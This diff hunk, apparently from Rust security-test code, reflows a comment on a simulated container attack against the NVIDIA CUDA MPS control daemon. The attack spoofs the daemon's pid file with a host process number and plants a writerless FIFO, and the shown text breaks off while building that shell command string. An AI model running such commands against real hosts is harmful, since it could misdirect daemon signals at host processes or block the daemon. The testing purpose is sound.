@@ -26,7 +26,8 @@ const MARK: &str = "7654321";
 const FILE: &str = "nvidia-cuda-mps-control.pid";
 
 /// Returns what the container does: it writes the number of a process of the node in the place of
-/// its daemon's, again and again, and later, once a file is there, puts a FIFO without a writer there.
+/// its daemon's, again and again, and later, once a file is there, puts a FIFO without a writer
+/// there.
 fn attack(victim: u32) -> String {
     format!(
         "cd $CUDA_MPS_PIPE_DIRECTORY || exit 1; echo left > /dev/shm/left; mkfifo fifo; \
